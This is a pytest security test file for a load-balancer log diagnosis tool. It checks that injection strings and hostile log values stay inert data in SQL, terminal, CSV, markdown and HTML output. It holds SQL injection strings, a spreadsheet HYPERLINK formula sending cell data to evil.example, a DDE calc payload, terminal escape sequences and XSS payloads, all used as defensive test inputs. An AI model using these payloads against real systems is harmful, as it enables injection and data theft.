"""User values reach SQL only as validated, escaped literals."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import sqlglot

from alb502athena.diagnosis import diagnose
from alb502athena.engines.local import LocalEngine
from alb502athena.errors import UsageError
from alb502athena.logfiles import discover
from alb502athena.render import QueryParams, render_athena_ddl, render_signature
from alb502athena.sqltext import sql_string
from alb502athena.window import Window
from tests.conftest import write_log
from tests.lines import signature_line

ATTACKS = ["x' OR '1'='1", "app/x/0123456789abcdef' OR '1'='1", "app/a/0123456789abcdef'; DROP TABLE t; --"]


@pytest.mark.parametrize("value", ATTACKS)
def test_load_balancer_injection_is_refused(value: str) -> None:
    with pytest.raises(UsageError, match="invalid --load-balancer"):
        render_signature("connect-failed", QueryParams(Window(), load_balancer=value))


@pytest.mark.parametrize("table", ["alb; DROP TABLE x", "a b", "t'--", "db.t.x.y"])
def test_table_names_are_identifiers(table: str) -> None:
    with pytest.raises(UsageError, match="invalid table name"):
        render_signature("connect-failed", QueryParams(Window(), table=table))


@pytest.mark.parametrize("value", ["2026-11-20' OR '1'='1", "now()", "yesterday"])
def test_times_are_parsed_not_pasted(value: str) -> None:
    with pytest.raises(UsageError, match="invalid --start"):
        Window.from_options(None, value, None)


@pytest.mark.parametrize("value", ["it's", "a''b", "'; --", "%s %(x)s", "\\'"])
def test_string_literals_round_trip(value: str) -> None:
    tree = sqlglot.parse_one(f"SELECT {sql_string(value)} AS v", read="athena")
    assert tree.selects[0].this.this == value


def test_ddl_values_are_validated() -> None:
    with pytest.raises(UsageError, match="invalid --prefix"):
        render_athena_ddl(
            bucket="my-bucket", prefix="p' )", account="123456789012", region="eu-west-1",
            table="t", projection_start="2024/01/01",
        )  # fmt: skip


def test_an_injected_value_in_the_logs_stays_data(tmp_path: Path) -> None:
    # A hostile user agent is data read by the engine, never SQL.
    line = signature_line("target-502", user_agent="x' OR '1'='1 --")
    path = write_log(tmp_path / "a.log", [line])
    window = Window()
    d = diagnose(LocalEngine(discover([path], window).files, window), QueryParams(window))
    assert d.totals.elb_502 == 1


def test_log_values_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
    """CSV output is opened in spreadsheets: a value from the logs that starts like a formula is
    prefixed with a quote, while numbers (-1) and the logs' own '-' stay as they are."""
    import csv
    import io

    from typer.testing import CliRunner

    from alb502athena.cli.app import app
    from alb502athena.output import rows_csv

    hostile = {
        "request": 'GET =HYPERLINK("http://evil.example/?"&A1) HTTP/1.1',
        "trace_id": "+cmd|' /C calc'!A0",
    }
    write_log(tmp_path / "a.log", [signature_line("connect-failed", **hostile)])
    result = CliRunner().invoke(app, ["run", "connect-failed", str(tmp_path), "-o", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["request_url"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
    assert row["trace_id"] == "'+cmd|' /C calc'!A0"
    assert row["target_processing_time"] == "-1.0"
    values = ["-", -1.0, "-1", "-x", "@a", "\tb", "ok", None]
    # Every field quoted (a spreadsheet splitting on ';' cannot start a cell inside one), control
    # characters shown: a tab or CR no longer starts the cell.
    assert rows_csv(["v"] * len(values), [values]).splitlines()[1] == (
        '"-","-1.0","-1","\'-x","\'@a","\\tb","ok",""'
    )
    assert rows_csv(["v"], [["=1"], ["-1e5"], ["-inf"], ["+1_0"]]).splitlines()[1:] == [
        '"\'=1"',
        '"-1e5"',
        '"\'-inf"',
        '"\'+1_0"',
    ]


def test_a_file_name_cannot_steer_the_terminal(tmp_path: Path) -> None:
    """File names are read from the disk (or a bucket): the notes on stderr show their control
    characters as escapes, as the results do."""
    from typer.testing import CliRunner

    from alb502athena.cli.app import app

    write_log(tmp_path / "good.log", [signature_line("connect-failed")])
    (tmp_path / "bad\x1b]0;pwned\x07.log.gz").write_bytes(b"\x1f\x8b not gzip")
    result = CliRunner().invoke(app, ["diagnose", str(tmp_path), "-o", "json"])
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "bad\\x1b]0;pwned\\x07.log.gz" in result.stderr


# What a client or anyone who can write to the log folder can put in a field that reaches the output:
# terminal sequences (OSC 52 writes the clipboard, OSC 0 the title, CSI moves the cursor and clears the
# screen, the C1 forms of them), bidirectional overrides, spreadsheet formulas, HTML and markdown.
OSC52, TITLE, CURSOR = "\x1b]52;c;cHduZWQ=\x07", "\x1b]0;pwned\x07", "\x1b[2J\x1b[H"
C1, BIDI = "\x9b31m\x9d0;t\x9c", "\u202etxt.exe\u2066\u200f\u2028"
MARKUP = "<img/src=x/onerror=alert(1)>[click](http://evil.example)![i](http://evil.example/t.png)|pipe|`tick`*em*_u_&#x202e;"
# What the markdown of a diagnosis or of rows may render to: no link, image, raw HTML or emphasis from data.
MARKDOWN_TAGS = {"h3", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code", "ol", "li"}
SHOWN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]"
)  # never printed raw
HOSTILE_URL = f"https://x.example/{MARKUP}{OSC52}{TITLE}{CURSOR}{BIDI}"
HOSTILE_TG = f"arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/<b>x</b>{MARKUP}{OSC52}/73e2d6bc24d8a067"


def _hostile_logs(folder: Path) -> Path:
    """502 lines with a hostile value in every field that reaches an output, and a file whose name
    carries terminal sequences (named in the notes on stderr)."""
    lines = [
        signature_line(
            "connect-failed",
            elb=f"app/=HYPERLINK(1){OSC52}/50dc6c495c0c9188",
            client=f"@SUM(1){TITLE}:1234",
            target=f"+evil{CURSOR}{C1}:8080",
            request=f"GET {HOSTILE_URL} HTTP/1.1",
            target_group_arn=HOSTILE_TG,
            trace_id=f"-2+3{TITLE}\t<script>alert(1)</script>{BIDI}",
        ),
        signature_line(
            "lambda-other",
            error_reason=f"Lambda{OSC52}<i>[l](http://e)</i>|=1",
            target_group_arn=f"=cmd|{TITLE}",
            request=f"GET https://x.example/\x0b=2{MARKUP} HTTP/1.1",
        ),
        signature_line("target-502", target=f"=1+1{TITLE}:80", trace_id=f"{BIDI}abc"),
    ]
    write_log(folder / "a.log", lines)
    (folder / f"bad{TITLE}{OSC52}.log.gz").write_bytes(b"\x1f\x8b not gzip")
    return folder


def _markdown_tags(text: str) -> tuple[set[str], list[int]]:
    """The HTML tags a markdown renderer (CommonMark with GitHub's tables) makes of the text, and the
    number of cells in each table row."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(text)
    rows = [row.count("<td") + row.count("<th") for row in re.findall(r"<tr>.*?</tr>", html, re.S)]
    return set(re.findall(r"<([a-z][a-z0-9]*)", html)), rows


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv", "json"])
def test_hostile_log_values_are_inert_in_every_output(tmp_path: Path, fmt: str) -> None:
    """Every value read from the logs (and every file name) is shown, never obeyed: on a terminal as
    escapes, in markdown as text or code (no tag, link or image, no extra cell), in CSV quoted and with a
    would-be formula prefixed, in JSON exactly (JSON's own escapes)."""
    import csv
    import io
    import json

    from typer.testing import CliRunner

    from alb502athena.cli.app import app

    logs = _hostile_logs(tmp_path / "logs")
    runs = [
        ["diagnose", str(logs)],
        *(["run", s, str(logs)] for s in ("connect-failed", "lambda-other", "target-502")),
    ]
    for args in runs:
        result = CliRunner().invoke(app, [*args, "-o", fmt], env={"COLUMNS": "200"})
        assert result.exit_code == 0, result.stderr
        out = result.stdout
        assert not SHOWN.search(out), (args, SHOWN.findall(out))
        assert not SHOWN.search(result.stderr) and "bad\\x1b]0;pwned\\x07" in result.stderr
        if fmt == "csv":
            lines = out.splitlines()
            assert all(line.startswith('"') and line.endswith('"') for line in lines)  # every field quoted
            for row in csv.reader(io.StringIO(out)):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                    assert not cell.startswith("-") or re.fullmatch(r"-|-[0-9.]+", cell), cell
        if fmt == "markdown":
            tags, cells = _markdown_tags(out)
            assert tags <= MARKDOWN_TAGS, tags
            assert len(set(cells)) == 1, cells  # no value added a cell
        if fmt == "json" and args[0] == "run" and args[1] == "connect-failed":
            (row,) = json.loads(out)
            assert row["request_url"] == HOSTILE_URL and row["target_group_arn"] == HOSTILE_TG  # exact


def test_hostile_log_values_in_the_report_are_shown_not_obeyed(tmp_path: Path) -> None:
    """The HTML report escapes them as HTML and, as on the terminal, shows control characters and
    bidirectional overrides as escapes (an override would reorder what the reader sees)."""
    from typer.testing import CliRunner

    from alb502athena.cli.app import app

    report = tmp_path / "r.html"
    result = CliRunner().invoke(
        app, ["diagnose", str(_hostile_logs(tmp_path / "logs")), "--report", str(report)]
    )
    assert result.exit_code == 0, result.stderr
    html = report.read_text()
    assert not SHOWN.search(html.replace("\t", "")), SHOWN.findall(html)
    assert "\\x1b]52;c;cHduZWQ=\\x07" in html and "\\u202etxt.exe\\u2066" in html
    assert html.count("<script") == 1 and "<img" not in html and "<b>x</b>" not in html


def test_error_lines_show_file_names_inert(tmp_path: Path) -> None:
    """The one `Error:` line names files too (here: none could be read), and a bug's message may quote
    a value from the logs: both show control characters as escapes."""
    from typer.testing import CliRunner

    from alb502athena.cli.app import app

    (tmp_path / f"x{TITLE}.log.gz").write_bytes(b"\x1f\x8b not gzip")
    for command in ("diagnose", "run"):
        args = (
            [command, str(tmp_path)] if command == "diagnose" else [command, "connect-failed", str(tmp_path)]
        )
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 2 and "no readable log files" in result.stderr, result.stderr
        assert not SHOWN.search(result.stderr) and "x\\x1b]0;pwned\\x07.log.gz" in result.stderr
